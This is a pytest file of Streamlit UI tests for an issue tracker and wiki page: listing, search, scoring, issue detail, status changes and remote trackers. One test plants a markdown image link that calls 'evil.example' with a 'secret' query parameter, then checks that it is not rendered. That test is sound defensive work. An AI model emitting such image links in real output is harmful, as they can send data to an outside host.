"""The page Issues as a script: lists, one issue, one page, and the way back to Tickets."""

from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from agent.ports import NewIssue, NewPage, Ports, Scored
from tests.fakes_tickets import FakeTracker, FakeWiki
from ui import issues, session

pytestmark = pytest.mark.timeout(120)

SECONDS = 40


def page_of(app: AppTest, **query: str) -> AppTest:
    for name, value in query.items():
        app.query_params[name] = value
    page = app.switch_page("../pages/issues.py").run(timeout=SECONDS)
    assert not page.exception
    return page


def ports() -> Ports:
    return session.agent().ports


def put(summary: str, description: str = "Text.") -> str:
    tracker: Any = ports().tracker
    new = NewIssue("PROJ", "Story", summary, description, mark=f"interlude-{summary}")
    return str(tracker.create(new).key)


def put_page(title: str, body: str = "<p>Text.</p>") -> str:
    wiki: Any = ports().wiki
    return str(wiki.create(NewPage(wiki.space, title, body)).id)


def score(issue: str, *overall: float) -> None:
    for n, value in enumerate(overall):
        at = f"2026-01-0{n + 1}T10:00:00+00:00"
        ports().scores.put("local", Scored(f"{issue}-{n}", issue, at, value, {}))


def texts(page: AppTest) -> str:
    parts = [*page.markdown, *page.caption, *page.title, *page.header, *page.info, *page.warning]
    return "\n".join(str(part.value) for part in parts)


def links(page: AppTest) -> list[str]:
    """To issues and pages, in order."""
    return [e.proto.label for e in page.main.children.values() for e in _links(e)]


def _links(element: Any) -> list[Any]:
    if getattr(element, "type", "") == "page_link":
        return [element]
    found = getattr(element, "children", {})
    return [link for child in found.values() for link in _links(child)]


def press(page: AppTest, label: str) -> AppTest:
    found = next(button for button in page.button if button.label == label)
    return found.click().run(timeout=SECONDS)


def tab(page: AppTest, name: str) -> AppTest:
    page.session_state["issues-tab"] = name
    return page.run(timeout=SECONDS)


# The lists


def test_without_an_issue_the_way_to_the_first_is_shown(app: AppTest) -> None:
    page = page_of(app)
    assert "**No issue yet.**" in texts(page)
    assert links(page) == ["Open Tickets"]
    assert texts(page).count("built-in tracker") == 1


def test_issues_are_listed_with_their_last_score(app: AppTest) -> None:
    first, second = put("Sign in with a *code*"), put("Export to CSV")
    score(first, 40, 61.25)
    page = page_of(app)
    assert links(page) == [rf"**{second}** Export to CSV", rf"**{first}** Sign in with a \*code\*"]
    said = texts(page)
    assert "Story · Medium · To Do · :orange-badge[61 of 100]" in said
    assert "Story · Medium · To Do · not scored yet" in said


def test_words_and_keys_find(app: AppTest) -> None:
    put("Sign in"), put("Export to CSV")
    page = page_of(app)
    page = page.text_input(key="issues-search").set_value("export").run()
    assert links(page) == ["**PROJ-2** Export to CSV"]
    page = page.text_input(key="issues-search").set_value("proj-1").run()
    assert links(page) == ["**PROJ-1** Sign in"]
    for wanted in ("nothing of the kind", "PROJ-99"):
        page = page.text_input(key="issues-search").set_value(wanted).run()
        assert "No issue contains these words." in texts(page)


def test_an_assignee_is_shown_and_found_without_accents(app: AppTest) -> None:
    put("Export to CSV"), planned()
    page = page_of(app)
    assert "Sofía" in texts(page)
    page = page.text_input(key="issues-search").set_value("sofia").run()
    assert links(page) == ["**PROJ-2** Sign in"]


def planned() -> str:
    """An issue with an assignee and a day."""
    tracker: Any = ports().tracker
    issue = tracker.issue(put("Sign in"))
    changes = {"assignee": "Sofía", "due": "2027-01-31"}
    tracker.update(issue.key, changes, version=issue.version)
    return str(issue.key)


def test_ticked_issues_are_scored_in_tickets(app: AppTest) -> None:
    put("Sign in"), put("Export to CSV"), put("Another")
    page = page_of(app)
    page.checkbox(key="pick-PROJ-1").check()
    page = page.checkbox(key="pick-PROJ-3").check().run()
    page = press(page, "Score 2 issues")
    assert not page.exception
    assert "2 issues scored" in texts(page)
    assert set(page.dataframe[0].value["Key"]) == {"PROJ-1", "PROJ-3"}


def test_all_open_issues_are_scored(app: AppTest) -> None:
    put("Sign in"), put("Export to CSV")
    page = press(page_of(app), "Score all open")
    assert "2 issues scored" in texts(page)
    assert set(ports().scores.latest("local")) == {"PROJ-1", "PROJ-2"}


def test_pages_are_listed_and_found(app: AppTest) -> None:
    put_page("PROJ-1: Sign in"), put_page("PROJ-2: Export")
    page = tab(page_of(app), "Pages")
    assert links(page) == [r"**PROJ-2\: Export**", r"**PROJ-1\: Sign in**"]
    page = page.text_input(key="pages-search").set_value("export").run()
    assert links(page) == [r"**PROJ-2\: Export**"]


# One issue


def test_an_issue_shows_what_it_says_and_how_it_was_scored(app: AppTest) -> None:
    key = put("Sign in", "A shopper.\n\n## Acceptance criteria\n\n- A code arrives")
    tracker: Any = ports().tracker
    tracker.link_page(key, title="PROJ-1: Sign in", url=f"/issues?page={put_page('P')}")
    score(key, 40, 61)
    page = page_of(app, key=key)
    said = texts(page)
    assert "- A code arrives" in said
    assert page.header[0].value == "Sign in"
    assert page.metric[0].value == "61 of 100"
    assert len(page.get("vega_lite_chart")) == 1
    assert links(page) == [r"PROJ-1\: Sign in"]


def test_an_issue_shows_its_plan_its_links_and_its_comments(app: AppTest) -> None:
    other, key = put("Export to CSV"), planned()
    tracker: Any = ports().tracker
    tracker.relate(key, "blocks", other)
    tracker.comment(key, "It is the time zone.", mark="interlude-1")
    page = page_of(app, key=key)
    said = texts(page)
    assert "Sofía" in said
    assert "31 Jan 2027" in said
    assert "blocks" in said
    assert links(page) == [other]
    assert "It is the time zone." in said
    [(_who, at)] = tracker.issue(key).commented
    assert any(at[:4] in caption.value for caption in page.caption)
    changed = "\n".join(block.value for block in page.expander[-1].markdown)
    assert "Sofía" in changed
    assert "2027" in changed


def test_the_status_is_set_where_the_issue_is_kept_here(app: AppTest) -> None:
    key = put("Sign in")
    page = page_of(app, key=key)
    page = page.segmented_control[0].set_value("In Progress").run()
    assert not page.exception
    tracker: Any = ports().tracker
    assert tracker.issue(key).status == "In Progress"
    assert page.segmented_control[0].value == "In Progress"
    assert page.expander[-1].label == "2 versions"
    assert ":red-background[~~To Do~~]" in page.expander[-1].markdown[1].value


@pytest.mark.parametrize(
    ("label", "act"), [("Score it", "has a maturity of"), ("Write its page", "Preview of the page")]
)
def test_an_issue_is_taken_to_tickets(app: AppTest, label: str, act: str) -> None:
    page = press(page_of(app, key=put("Sign in")), label)
    assert not page.exception
    assert act in texts(page)


def test_an_unknown_issue_is_not_found(app: AppTest) -> None:
    page = page_of(app, key="PROJ-99")
    assert "There is no issue PROJ-99." in page.warning[0].value
    page = press(page, "All issues")
    assert page.title[0].value == "Issues"


def test_an_issue_cannot_draw_anything(app: AppTest) -> None:
    evil = "![x](http://evil.example/?q=secret)"
    page = page_of(app, key=put(evil, evil))
    assert "![" not in texts(page)


# One page


def test_a_page_shows_its_text_and_its_versions(app: AppTest) -> None:
    wiki: Any = ports().wiki
    id_ = put_page("PROJ-1: Sign in", "<p>Score 40</p>")
    wiki.update(id_, NewPage(wiki.space, "PROJ-1: Sign in", "<p>Score 61</p>"), version=1)
    page = page_of(app, page=id_)
    assert "Score 61" in texts(page)
    assert page.expander[-1].label == "2 versions"
    assert "~~40~~" in page.expander[-1].markdown[1].value


# Far away


@pytest.fixture
def calls(app: AppTest, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What a tracker and a wiki that are not embedded are asked."""
    tracker, wiki = FakeTracker(), FakeWiki()
    for n in range(30):
        tracker.put(f"Issue number {n}")
    called: list[str] = []
    tracker.called = wiki.called = called.append
    far = session.agent().ports
    for name, port in (("tracker", tracker), ("wiki", wiki)):
        monkeypatch.setitem(far.__dict__, name, port)
    return called


def test_a_tracker_far_away_is_asked_once_for_all_rows(app: AppTest, calls: list[str]) -> None:
    page = page_of(app)
    assert len(links(page)) == issues.PAGE
    page.checkbox(key="pick-PROJ-30").check().run()
    assert calls == ["open_issues"]
    press(page, "Refresh")
    assert calls == ["open_issues", "open_issues"]


def test_an_issue_far_away_has_no_status_to_set(app: AppTest, calls: list[str]) -> None:
    page = page_of(app, key="PROJ-1")
    assert not page.segmented_control
    assert "Jira at tracker.example" in texts(page)
    assert "(tracker.example)" in texts(page)


def test_nothing_set_up_is_said_with_the_way_out(
    app: AppTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    far = session.agent().ports
    monkeypatch.setitem(far.__dict__, "tracker", None)
    monkeypatch.setitem(far.__dict__, "wiki", None)
    assert r"INTERLUDE\_TRACKER" in page_of(app).info[0].value
    assert r"INTERLUDE\_WIKI" in tab(app, "Pages").info[0].value
